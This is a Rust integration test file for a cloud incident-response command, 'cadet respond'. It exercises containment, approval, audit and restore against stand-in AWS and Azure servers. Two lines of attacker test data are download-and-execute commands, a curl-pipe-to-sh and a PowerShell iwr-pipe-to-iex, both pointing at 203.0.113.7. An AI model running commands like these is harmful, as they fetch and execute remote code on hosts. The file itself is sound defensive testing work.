@@ -1,0 +1,945 @@
+//! `cadet respond`, end to end through the real binary.
+//!
+//! - AWS: moto server for IAM, EC2, Auto Scaling, STS and the SSM calls it has; the four SSM
+//!   calls moto lacks (CancelCommand, ListCommandInvocations, TerminateSession,
+//!   DescribeSessions) go to `tests/standin/ssm_proxy.py`, which checks their documented request
+//!   shapes and forwards everything else to moto. For a SendCommand, a session and an
+//!   access-key finding: plan → dry run (nothing changes) → execute (changed, verified) → a
+//!   second execute (no call repeated) → restore (the world equals the one before, field by
+//!   field, except what the plan says cannot be undone).
+//! - Azure: `tests/standin/arm.py` checks method, path, api-version and body of each ARM and
+//!   Graph request and records them; the tests assert the exact sequence, for a foreign-tenant
+//!   caller and for a home-tenant service principal.
+//! - Approvals: a signed request; forged, replayed and detector-identity approvals refused; a
+//!   real one runs the plan once.
+//! - A failed step stops its dependents, with audit records saying so.
+#![cfg(feature = "respond")]
+
+use std::io::{BufRead, BufReader};
+use std::net::TcpListener;
+use std::path::PathBuf;
+use std::process::{Child, Command, Output, Stdio};
+
+use serde_json::{json, Value};
+
+mod common;
+use common::{tmp, Tmp};
+
+fn repo() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn python() -> PathBuf {
+    let p = repo().join(".venv/bin/python");
+    assert!(p.exists(), "{} is missing: run `make venv`", p.display());
+    p
+}
+
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0")
+        .and_then(|l| l.local_addr())
+        .map(|a| a.port())
+        .unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// A child process killed on drop.
+struct Server(Child);
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Starts a stand-in script that prints `ready` once listening.
+fn standin(script: &str, args: &[&str]) -> Server {
+    let mut child = Command::new(python())
+        .arg(repo().join("tests/standin").join(script))
+        .args(args)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .unwrap_or_else(|e| panic!("starting {script}: {e}"));
+    let mut line = String::new();
+    if let Some(out) = child.stdout.take() {
+        let _ = BufReader::new(out).read_line(&mut line);
+    }
+    assert_eq!(line.trim(), "ready", "{script} did not start");
+    Server(child)
+}
+
+fn moto() -> (Server, String) {
+    let bin = repo().join(".venv/bin/moto_server");
+    assert!(
+        bin.exists(),
+        "{} is missing: run `make venv`",
+        bin.display()
+    );
+    let port = free_port();
+    let child = Command::new(&bin)
+        .args(["-H", "127.0.0.1", "-p", &port.to_string()])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap_or_else(|e| panic!("starting moto: {e}"));
+    let url = format!("http://127.0.0.1:{port}");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
+    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
+        assert!(std::time::Instant::now() < deadline, "moto did not start");
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    (Server(child), url)
+}
+
+fn world(cmd: &str, endpoint: &str) -> Value {
+    let out = Command::new(python())
+        .arg(repo().join("tests/standin/aws_world.py"))
+        .args([cmd, endpoint])
+        .output()
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert!(
+        out.status.success(),
+        "aws_world {cmd}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// One AWS test world: moto, the SSM stand-in in front of it, a state file and a policy.
+struct Aws {
+    _moto: Server,
+    _proxy: Server,
+    moto: String,
+    ssm: String,
+    ssm_log: PathBuf,
+    ids: Value,
+    dir: Tmp,
+}
+
+impl Aws {
+    fn new(sessions: &[&str], stuck: bool) -> Aws {
+        let (m, moto) = moto();
+        let ids = world("seed", &moto);
+        let dir = tmp("respond");
+        let ssm_log = dir.join("ssm.jsonl");
+        let port = free_port().to_string();
+        let mut args = vec![
+            "--port".to_string(),
+            port.clone(),
+            "--moto".into(),
+            moto.clone(),
+            "--log".into(),
+            ssm_log.display().to_string(),
+        ];
+        for s in sessions {
+            args.push("--session".into());
+            args.push((*s).into());
+        }
+        if stuck {
+            args.push("--stuck".into());
+            args.push(ids["command_id"].as_str().unwrap_or_default().into());
+        }
+        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+        let proxy = standin("ssm_proxy.py", &refs);
+        let aws = Aws {
+            _moto: m,
+            _proxy: proxy,
+            moto,
+            ssm: format!("http://127.0.0.1:{port}"),
+            ssm_log,
+            ids,
+            dir,
+        };
+        let policy = format!(
+            "[response]\nmode = \"suggest\"\ncontainment_security_group = \"{}\"\n\
+             detector_identities = [\"{}\"]\nrestore_admins = [\"{}\"]\n",
+            aws.ids["containment"].as_str().unwrap_or_default(),
+            aws.arn("cadet-detector"),
+            aws.arn("restorer"),
+        );
+        std::fs::write(aws.dir.join("policy.toml"), policy).unwrap_or_else(|e| panic!("{e}"));
+        aws
+    }
+
+    fn id(&self, k: &str) -> String {
+        self.ids[k].as_str().unwrap_or_default().to_string()
+    }
+
+    fn arn(&self, user: &str) -> String {
+        self.ids["users"][user]["arn"]
+            .as_str()
+            .unwrap_or_default()
+            .to_string()
+    }
+
+    fn dump(&self) -> Value {
+        world("dump", &self.moto)
+    }
+
+    /// `cadet respond ARGS` with `user`'s credentials.
+    fn cadet(&self, user: &str, args: &[&str]) -> Output {
+        let u = &self.ids["users"][user];
+        Command::new(env!("CARGO_BIN_EXE_cadet"))
+            .arg("respond")
+            .args(args)
+            .args([
+                "--policy",
+                &self.dir.join("policy.toml").display().to_string(),
+                "--state",
+                &self.dir.join("state.redb").display().to_string(),
+                "--verify-attempts",
+                "2",
+                "--verify-delay",
+                "0",
+            ])
+            .env_clear()
+            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+            .env("HOME", self.dir.path())
+            .env("AWS_ACCESS_KEY_ID", u["key"].as_str().unwrap_or_default())
+            .env(
+                "AWS_SECRET_ACCESS_KEY",
+                u["secret"].as_str().unwrap_or_default(),
+            )
+            .env("AWS_REGION", "eu-west-1")
+            .env("AWS_ENDPOINT_URL", &self.moto)
+            .env("AWS_ENDPOINT_URL_SSM", &self.ssm)
+            .env("AWS_EC2_METADATA_DISABLED", "true")
+            .env("CADET_APPROVAL_KEY", "k3y-for-tests-only-0123456789abcdef")
+            .output()
+            .unwrap_or_else(|e| panic!("{e}"))
+    }
+
+    /// Plans `finding`, writing the plan to `plan.json`; returns its path.
+    fn plan(&self, finding: &Value) -> PathBuf {
+        let f = self.dir.join("finding.json");
+        std::fs::write(&f, finding.to_string()).unwrap_or_else(|e| panic!("{e}"));
+        let out = self.cadet("responder", &["plan", &f.display().to_string(), "--json"]);
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let p = self.dir.join("plan.json");
+        std::fs::write(&p, &out.stdout).unwrap_or_else(|e| panic!("{e}"));
+        p
+    }
+
+    fn ssm_calls(&self, op: &str) -> usize {
+        std::fs::read_to_string(&self.ssm_log)
+            .unwrap_or_default()
+            .lines()
+            .filter(|l| serde_json::from_str::<Value>(l).is_ok_and(|v| v["op"] == op))
+            .count()
+    }
+}
+
+/// The run report (stdout) of apply / approve / restore.
+fn report(out: &Output) -> Value {
+    let text = String::from_utf8_lossy(&out.stdout);
+    serde_json::from_str(text.trim()).unwrap_or_else(|e| {
+        panic!(
+            "no run report ({e}): stdout {text:?} stderr {}",
+            String::from_utf8_lossy(&out.stderr)
+        )
+    })
+}
+
+fn statuses(r: &Value) -> Vec<(String, String)> {
+    r["steps"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .map(|s| {
+                    (
+                        s["step"].as_str().unwrap_or_default().to_string(),
+                        s["status"].as_str().unwrap_or_default().to_string(),
+                    )
+                })
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+fn pairs(v: &[(&str, &str)]) -> Vec<(String, String)> {
+    v.iter()
+        .map(|(a, b)| (a.to_string(), b.to_string()))
+        .collect()
+}
+
+fn finding(aws: &Aws, over: Value) -> Value {
+    let mut f = json!({
+        "finding_id": "5d1e0c3a9b8f7e6d5c4b3a2918070605",
+        "event_id": "e-1",
+        "event_time": "2026-12-06T03:12:00Z",
+        "provider": "aws",
+        "account": "123456789012",
+        "region": "eu-west-1",
+        "operation": "ssm:SendCommand",
+        "action": "run_command",
+        "principal": { "id": "arn:aws:iam::123456789012:role/OpsAdmin", "type": "assumed_role",
+                       "session_name": "t.walker" },
+        "targets": { "ids": [aws.id("instance")], "selector": null },
+        "outcome": "success",
+        "severity": "critical",
+        "risk_score": 91,
+        "signals": [{ "id": "action", "points": 20, "reason": "r" }],
+        "command_id": aws.id("command_id"),
+        "summary": "t.walker ran AWS-RunShellScript on one instance"
+    });
+    if let (Some(b), Some(o)) = (f.as_object_mut(), over.as_object()) {
+        for (k, v) in o {
+            b.insert(k.clone(), v.clone());
+        }
+    }
+    f
+}
+
+#[test]
+fn send_command_plan_dry_run_execute_verify_restore() {
+    let aws = Aws::new(&[], false);
+    let instance = aws.id("instance");
+    let isolate = format!("isolate-{instance}");
+    let plan = aws.plan(&finding(&aws, json!({})));
+    let plan_s = plan.display().to_string();
+    let before = aws.dump();
+
+    // Dry run: everything read, nothing changed, nothing cancelled.
+    let out = aws.cadet("responder", &["apply", &plan_s, "--include", &isolate]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r = report(&out);
+    assert_eq!(
+        statuses(&r),
+        pairs(&[
+            ("capture-output", "dry_run"),
+            ("cancel-command", "dry_run"),
+            ("revoke-role-sessions", "dry_run"),
+            (&isolate, "dry_run"),
+        ])
+    );
+    assert_eq!(aws.dump(), before, "a dry run changed something");
+    assert_eq!(aws.ssm_calls("CancelCommand"), 0);
+
+    // The detector's own credentials never act.
+    let out = aws.cadet("cadet-detector", &["apply", &plan_s, "--execute"]);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("detector's own identity"), "{err}");
+
+    // Execute, with the optional isolation.
+    let out = aws.cadet(
+        "responder",
+        &["apply", &plan_s, "--execute", "--include", &isolate],
+    );
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r = report(&out);
+    let run = r["run_id"].as_str().unwrap_or_default().to_string();
+    assert_eq!(r["actor"], json!(aws.arn("responder")));
+    assert_eq!(
+        statuses(&r),
+        pairs(&[
+            ("capture-output", "applied"),
+            ("cancel-command", "applied"),
+            ("revoke-role-sessions", "applied"),
+            (&isolate, "applied"),
+        ])
+    );
+    let after = aws.dump();
+    let revoke = &after["role_policies"]["cadet-revoke-5d1e0c3a"];
+    assert_eq!(
+        revoke["Statement"][0]["Condition"]["DateLessThan"]["aws:TokenIssueTime"],
+        json!("2026-12-06T03:12:00Z")
+    );
+    assert_eq!(
+        after["role_policies"]["ops"],
+        before["role_policies"]["ops"]
+    );
+    assert_eq!(
+        after["instance_groups"][&instance],
+        json!([aws.id("containment")])
+    );
+    assert_eq!(after["asg"]["instances"], json!([]));
+    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
+    // The evidence was kept before anything changed.
+    let audit = aws.cadet("responder", &["audit", &run]);
+    let audit = String::from_utf8_lossy(&audit.stdout).to_string();
+    assert!(
+        audit.contains("curl -s http://203.0.113.7/x | sh")
+            || audit.contains("StandardOutputContent"),
+        "{audit}"
+    );
+    for phase in ["\"snapshot\"", "\"act\"", "\"verify\""] {
+        assert!(
+            audit.contains(phase),
+            "{phase} missing from the audit: {audit}"
+        );
+    }
+
+    // A second apply does nothing.
+    let out = aws.cadet(
+        "responder",
+        &["apply", &plan_s, "--execute", "--include", &isolate],
+    );
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let again = report(&out);
+    assert!(
+        statuses(&again).iter().all(|(_, s)| s == "already_applied"),
+        "{again}"
+    );
+    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
+    assert_eq!(aws.dump(), after);
+
+    // Restore: only a restore admin.
+    let out = aws.cadet("responder", &["restore", &run]);
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("restore_admins"));
+    let out = aws.cadet("restorer", &["restore", &run]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        statuses(&report(&out)),
+        pairs(&[
+            (&isolate, "restored"),
+            ("revoke-role-sessions", "restored"),
+            ("cancel-command", "not_reversible"),
+            ("capture-output", "restored"),
+        ])
+    );
+    // Field by field, the world is as it was (the command stays cancelled: not reversible).
+    assert_eq!(aws.dump(), before);
+    // A second restore has nothing left to do.
+    let out = aws.cadet("restorer", &["restore", &run]);
+    assert!(out.status.success());
+    assert!(
+        statuses(&report(&out))
+            .iter()
+            .all(|(_, s)| s == "nothing_to_restore" || s == "not_reversible"),
+        "{}",
+        report(&out)
+    );
+    assert_eq!(aws.dump(), before);
+}
+
+#[test]
+fn session_and_access_key_findings_round_trip() {
+    let session = "j.morales-0c3f6c7843c763cad";
+    let aws = Aws::new(&[session], false);
+    let key = aws.ids["users"]["j.morales"]["key"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    let user = json!({ "id": "arn:aws:iam::123456789012:user/j.morales", "type": "iam_user",
+                       "access_key_id": key });
+    let before = aws.dump();
+
+    // A Session Manager session by an IAM user with a long-term key.
+    let f = finding(
+        &aws,
+        json!({ "operation": "ssm:StartSession", "action": "session", "command_id": session,
+                "principal": user }),
+    );
+    let plan = aws.plan(&f).display().to_string();
+    let isolate = format!("isolate-{}", aws.id("instance"));
+    let out = aws.cadet("responder", &["apply", &plan]);
+    assert_eq!(
+        statuses(&report(&out)),
+        pairs(&[
+            ("terminate-session", "dry_run"),
+            ("deactivate-access-key", "dry_run"),
+            (&isolate, "not_included")
+        ])
+    );
+    assert_eq!(aws.ssm_calls("TerminateSession"), 0);
+    let out = aws.cadet("responder", &["apply", &plan, "--execute"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r = report(&out);
+    assert_eq!(
+        statuses(&r),
+        pairs(&[
+            ("terminate-session", "applied"),
+            ("deactivate-access-key", "applied"),
+            (&isolate, "not_included")
+        ])
+    );
+    let run = r["run_id"].as_str().unwrap_or_default().to_string();
+    assert_eq!(
+        aws.dump()["access_keys"]["j.morales"][&key],
+        json!("Inactive")
+    );
+    // Verified by listing the active sessions, not by TerminateSession's answer.
+    assert_eq!(aws.ssm_calls("TerminateSession"), 1);
+    assert!(aws.ssm_calls("DescribeSessions") >= 2);
+    let out = aws.cadet("responder", &["apply", &plan, "--execute"]);
+    assert!(statuses(&report(&out))
+        .iter()
+        .all(|(_, s)| s == "already_applied" || s == "not_included"));
+    assert_eq!(aws.ssm_calls("TerminateSession"), 1);
+    let out = aws.cadet("restorer", &["restore", &run]);
+    assert_eq!(
+        statuses(&report(&out)),
+        pairs(&[
+            (&isolate, "nothing_to_restore"),
+            ("deactivate-access-key", "restored"),
+            ("terminate-session", "not_reversible")
+        ])
+    );
+    assert_eq!(aws.dump(), before);
+
+    // An access-key finding: the same user shared a command document with another account.
+    let f = finding(
+        &aws,
+        json!({ "finding_id": "0a1b2c3d4e5f60718293a4b5c6d7e8f9",
+                "operation": "ssm:ModifyDocumentPermission", "action": "command_document",
+                "command_id": null, "document": aws.id("document"), "targets": { "ids": [] },
+                "principal": user }),
+    );
+    let plan = aws.plan(&f).display().to_string();
+    let out = aws.cadet("responder", &["apply", &plan, "--execute"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r = report(&out);
+    assert_eq!(
+        statuses(&r),
+        pairs(&[
+            ("stop-sharing-document", "applied"),
+            ("deactivate-access-key", "applied")
+        ])
+    );
+    let mid = aws.dump();
+    assert_eq!(mid["document_shared_with"], json!([]));
+    assert_eq!(mid["access_keys"]["j.morales"][&key], json!("Inactive"));
+    let out = aws.cadet("responder", &["apply", &plan, "--execute"]);
+    assert!(statuses(&report(&out))
+        .iter()
+        .all(|(_, s)| s == "already_applied"));
+    let run = r["run_id"].as_str().unwrap_or_default().to_string();
+    let out = aws.cadet("restorer", &["restore", &run]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(aws.dump(), before);
+}
+
+#[test]
+fn a_failed_step_stops_its_dependents_and_says_so() {
+    // The command keeps running after CancelCommand (a process that ignores it).
+    let aws = Aws::new(&[], true);
+    let plan = aws.plan(&finding(&aws, json!({})));
+    let out = aws.cadet(
+        "responder",
+        &["apply", &plan.display().to_string(), "--execute"],
+    );
+    assert_eq!(out.status.code(), Some(1));
+    let r = report(&out);
+    assert_eq!(
+        statuses(&r),
+        pairs(&[
+            ("capture-output", "applied"),
+            ("cancel-command", "unverified"),
+            ("revoke-role-sessions", "applied"),
+            (&format!("isolate-{}", aws.id("instance")), "not_included"),
+        ])
+    );
+    // An unknown command: the capture fails, so the cancel that depends on it never runs.
+    let plan = aws.plan(&finding(
+        &aws,
+        json!({ "finding_id": "ffff0000ffff0000ffff0000ffff0000",
+                "command_id": "00000000-0000-4000-8000-000000000000" }),
+    ));
+    let out = aws.cadet(
+        "responder",
+        &["apply", &plan.display().to_string(), "--execute"],
+    );
+    assert_eq!(out.status.code(), Some(1));
+    let r = report(&out);
+    let st = statuses(&r);
+    assert_eq!(st[0], ("capture-output".to_string(), "failed".to_string()));
+    assert_eq!(st[1], ("cancel-command".to_string(), "skipped".to_string()));
+    let run = r["run_id"].as_str().unwrap_or_default().to_string();
+    let audit = aws.cadet("responder", &["audit", &run]);
+    let records: Vec<Value> = String::from_utf8_lossy(&audit.stdout)
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    let of = |step: &str| {
+        records
+            .iter()
+            .filter(|r| r["step"] == step)
+            .map(|r| {
+                (
+                    r["phase"].as_str().unwrap_or("").to_string(),
+                    r["result"].as_str().unwrap_or("").to_string(),
+                )
+            })
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(of("capture-output"), pairs(&[("snapshot", "failed")]));
+    assert_eq!(of("cancel-command"), pairs(&[("skip", "skipped")]));
+    assert!(records.iter().any(|r| r["step"] == "cancel-command"
+        && r["detail"]
+            .as_str()
+            .is_some_and(|d| d.contains("depends on capture-output"))));
+    assert_eq!(
+        records.last().map(|r| r["result"].clone()),
+        Some(json!("failed"))
+    );
+}
+
+#[test]
+fn approvals_are_signed_expiring_and_used_once() {
+    let aws = Aws::new(&[], false);
+    let plan = aws.plan(&finding(&aws, json!({})));
+    let plan_s = plan.display().to_string();
+    let out = aws.cadet("cadet-detector", &["request", &plan_s]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let token = String::from_utf8_lossy(&out.stdout).trim().to_string();
+    assert_eq!(token.matches('.').count(), 1, "{token}");
+
+    // Forged: the same request signed with another key.
+    let forged = Command::new(env!("CARGO_BIN_EXE_cadet"))
+        .args([
+            "respond",
+            "request",
+            &plan_s,
+            "--issued-by",
+            &aws.arn("cadet-detector"),
+        ])
+        .env("CADET_APPROVAL_KEY", "another-key-another-key-another-key!")
+        .output()
+        .unwrap_or_else(|e| panic!("{e}"));
+    let forged = String::from_utf8_lossy(&forged.stdout).trim().to_string();
+    let out = aws.cadet("responder", &["approve", &plan_s, "--token", &forged]);
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("does not verify"));
+    // The detector approving its own request.
+    let out = aws.cadet("cadet-detector", &["approve", &plan_s, "--token", &token]);
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("detector's own identity"));
+    assert_eq!(aws.ssm_calls("CancelCommand"), 0);
+    // A real approval runs the plan once.
+    let out = aws.cadet("responder", &["approve", &plan_s, "--token", &token]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r = report(&out);
+    assert!(statuses(&r)
+        .iter()
+        .any(|(s, st)| s == "cancel-command" && st == "applied"));
+    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
+    // Replayed, by the same or another approver.
+    for who in ["responder", "restorer"] {
+        let out = aws.cadet(who, &["approve", &plan_s, "--token", &token]);
+        assert!(!out.status.success());
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(err.contains("already used"), "{err}");
+    }
+    assert_eq!(aws.ssm_calls("CancelCommand"), 1);
+    // The refusals are in the audit trail.
+    let audit = aws.cadet("responder", &["audit", "approvals"]);
+    let audit = String::from_utf8_lossy(&audit.stdout).to_string();
+    assert_eq!(audit.matches("\"refuse\"").count(), 4, "{audit}");
+    assert_eq!(audit.matches("\"approve\"").count(), 1, "{audit}");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Azure
+
+const SUB: &str = "00000000-1111-2222-3333-444444444444";
+
+fn vm() -> String {
+    format!("/subscriptions/{SUB}/resourceGroups/rg-prod-data/providers/Microsoft.Compute/virtualMachines/vm-sql-01")
+}
+
+fn assignment(name: &str) -> String {
+    format!("/subscriptions/{SUB}/providers/Microsoft.Authorization/roleAssignments/{name}")
+}
+
+/// A fake Entra token whose `oid` names the responder (the stand-in only checks it is a bearer
+/// token; ARM would check the signature).
+fn token(oid: &str) -> String {
+    use base64::Engine;
+    let e = base64::engine::general_purpose::URL_SAFE_NO_PAD;
+    format!(
+        "{}.{}.sig",
+        e.encode(br#"{"alg":"none"}"#),
+        e.encode(json!({ "oid": oid }).to_string())
+    )
+}
+
+struct Arm {
+    _server: Server,
+    url: String,
+    log: PathBuf,
+    dir: Tmp,
+}
+
+impl Arm {
+    fn new() -> Arm {
+        let dir = tmp("respond-arm");
+        let rc = format!("{}/runCommands/rc-hotfix", vm());
+        let seed = json!({
+            "resources": {
+                rc.clone(): { "id": rc, "name": "rc-hotfix", "location": "westeurope",
+                    "properties": { "source": { "script": "iwr http://203.0.113.7/a.ps1 | iex" },
+                                    "asyncExecution": false, "provisioningState": "Succeeded" } },
+                assignment("a1"): { "id": assignment("a1"), "name": "a1", "properties": {
+                    "roleDefinitionId": format!("/subscriptions/{SUB}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635"),
+                    "principalId": "11111111-2222-3333-4444-555555555555", "principalType": "ForeignGroup",
+                    "scope": format!("/subscriptions/{SUB}") } },
+                assignment("a2"): { "id": assignment("a2"), "name": "a2", "properties": {
+                    "roleDefinitionId": format!("/subscriptions/{SUB}/providers/Microsoft.Authorization/roleDefinitions/acdd72a7-3385-48ef-bd42-f606fba81ae7"),
+                    "principalId": "66666666-7777-8888-9999-000000000000", "principalType": "User",
+                    "scope": format!("/subscriptions/{SUB}") } }
+            },
+            "graph": {
+                "servicePrincipals": { "8fce7839-280f-49b9-9eed-ad76438d9219": { "accountEnabled": true } },
+                "users": {}
+            }
+        });
+        let seed_path = dir.join("seed.json");
+        std::fs::write(&seed_path, seed.to_string()).unwrap_or_else(|e| panic!("{e}"));
+        let log = dir.join("arm.jsonl");
+        let port = free_port().to_string();
+        let server = standin(
+            "arm.py",
+            &[
+                "--port",
+                &port,
+                "--seed",
+                &seed_path.display().to_string(),
+                "--log",
+                &log.display().to_string(),
+            ],
+        );
+        let policy = "[response]\nmode = \"approve\"\nrestore_admins = [\"aaaaaaaa-0000-0000-0000-00000000ad01\"]\n\
+                      detector_identities = [\"dddddddd-0000-0000-0000-0000000000de\"]\n";
+        std::fs::write(dir.join("policy.toml"), policy).unwrap_or_else(|e| panic!("{e}"));
+        Arm {
+            _server: server,
+            url: format!("http://127.0.0.1:{port}"),
+            log,
+            dir,
+        }
+    }
+
+    fn cadet(&self, oid: &str, args: &[&str]) -> Output {
+        Command::new(env!("CARGO_BIN_EXE_cadet"))
+            .arg("respond")
+            .args(args)
+            .args([
+                "--policy",
+                &self.dir.join("policy.toml").display().to_string(),
+                "--state",
+                &self.dir.join("state.redb").display().to_string(),
+                "--verify-attempts",
+                "1",
+                "--verify-delay",
+                "0",
+            ])
+            .env("CADET_ARM_ENDPOINT", &self.url)
+            .env("CADET_GRAPH_ENDPOINT", &self.url)
+            .env("CADET_ARM_TOKEN", token(oid))
+            .env("CADET_GRAPH_TOKEN", token(oid))
+            .output()
+            .unwrap_or_else(|e| panic!("{e}"))
+    }
+
+    /// The requests since `from`: (method, path, api-version).
+    fn calls(&self, from: usize) -> Vec<(String, String, String)> {
+        std::fs::read_to_string(&self.log)
+            .unwrap_or_default()
+            .lines()
+            .skip(from)
+            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+            .map(|v| {
+                (
+                    v["method"].as_str().unwrap_or("").to_string(),
+                    v["path"].as_str().unwrap_or("").to_string(),
+                    v["api_version"].as_str().unwrap_or("").to_string(),
+                )
+            })
+            .collect()
+    }
+
+    fn plan(&self, finding: &Value) -> String {
+        let f = self.dir.join("finding.json");
+        std::fs::write(&f, finding.to_string()).unwrap_or_else(|e| panic!("{e}"));
+        let out = self.cadet(RESPONDER, &["plan", &f.display().to_string(), "--json"]);
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let p = self.dir.join("plan.json");
+        std::fs::write(&p, &out.stdout).unwrap_or_else(|e| panic!("{e}"));
+        p.display().to_string()
+    }
+}
+
+const RESPONDER: &str = "bbbbbbbb-0000-0000-0000-0000000000b0";
+const ADMIN: &str = "aaaaaaaa-0000-0000-0000-00000000ad01";
+
+fn c(m: &str, p: &str, v: &str) -> (String, String, String) {
+    (m.into(), p.into(), v.into())
+}
+
+#[test]
+fn azure_foreign_tenant_caller_exact_sequence() {
+    let arm = Arm::new();
+    let f = json!({
+        "finding_id": "651cb47cf2e4a0578f5ef7a7327d21a5", "event_time": "2026-10-03T01:36:12Z",
+        "provider": "azure", "account": SUB, "region": null,
+        "operation": "Microsoft.Compute/virtualMachines/runCommands/write",
+        "action": "managed_run_command", "document": "rc-hotfix", "outcome": "success",
+        "principal": { "id": "66666666-7777-8888-9999-000000000000", "type": "azure_user",
+                       "name": "admin@partner-csp.onmicrosoft.com",
+                       "tenant": "99999999-8888-7777-6666-555555555555" },
+        "targets": { "ids": [vm()] }, "severity": "critical",
+        "signals": [{ "id": "foreign_tenant_caller" }, { "id": "delegated_admin" }]
+    });
+    let plan = arm.plan(&f);
+    let text = std::fs::read_to_string(&plan).unwrap_or_default();
+    assert!(text.contains("revokeSignInSessions does nothing"), "{text}");
+    assert!(!text.contains("revoke-user-sessions"), "{text}");
+
+    let out = arm.cadet(
+        "dddddddd-0000-0000-0000-0000000000de",
+        &["apply", &plan, "--execute"],
+    );
+    assert!(!out.status.success(), "the detector's identity acted");
+    assert_eq!(arm.calls(0), vec![]);
+
+    let out = arm.cadet(RESPONDER, &["apply", &plan, "--execute"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r = report(&out);
+    let rc = format!("{}/runCommands/rc-hotfix", vm());
+    let list = format!("/subscriptions/{SUB}/providers/Microsoft.Authorization/roleAssignments");
+    assert_eq!(
+        arm.calls(0),
+        vec![
+            c("GET", &rc, "2024-07-01"),
+            c("DELETE", &rc, "2024-07-01"),
+            c("GET", &rc, "2024-07-01"),
+            c("GET", &list, "2022-04-01"),
+            c("DELETE", &assignment("a1"), "2022-04-01"),
+            c("DELETE", &assignment("a2"), "2022-04-01"),
+            c("GET", &list, "2022-04-01"),
+        ]
+    );
+    let n = arm.calls(0).len();
+    let run = r["run_id"].as_str().unwrap_or_default().to_string();
+    let out = arm.cadet(RESPONDER, &["restore", &run]);
+    assert!(!out.status.success(), "a responder restored");
+    let out = arm.cadet(ADMIN, &["restore", &run]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        arm.calls(n),
+        vec![
+            c("PUT", &assignment("a1"), "2022-04-01"),
+            c("PUT", &assignment("a2"), "2022-04-01"),
+            c("PUT", &rc, "2024-07-01"),
+        ]
+    );
+    // The run command came back as it was.
+    let log = std::fs::read_to_string(&arm.log).unwrap_or_default();
+    let put = log
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .find(|v| v["method"] == "PUT" && v["path"] == json!(rc))
+        .unwrap_or_default();
+    assert_eq!(
+        put["body"]["properties"]["source"]["script"],
+        json!("iwr http://203.0.113.7/a.ps1 | iex")
+    );
+}
+
+#[test]
+fn azure_service_principal_is_disabled_and_enabled_again() {
+    let arm = Arm::new();
+    let f = json!({
+        "finding_id": "8e4b97cb93f5eef95545182c6becc385", "event_time": "2026-10-04T04:12:33Z",
+        "provider": "azure", "account": SUB,
+        "operation": "Microsoft.Compute/virtualMachines/runCommand/action",
+        "action": "run_command", "outcome": "success",
+        "principal": { "id": "8fce7839-280f-49b9-9eed-ad76438d9219", "type": "service_principal",
+                       "tenant": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee" },
+        "targets": { "ids": [vm()] }, "severity": "high", "signals": []
+    });
+    let plan = arm.plan(&f);
+    let out = arm.cadet(RESPONDER, &["apply", &plan, "--execute"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let sp = "/v1.0/servicePrincipals/8fce7839-280f-49b9-9eed-ad76438d9219";
+    assert_eq!(
+        arm.calls(0),
+        vec![c("GET", sp, ""), c("PATCH", sp, ""), c("GET", sp, "")]
+    );
+    let run = report(&out)["run_id"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
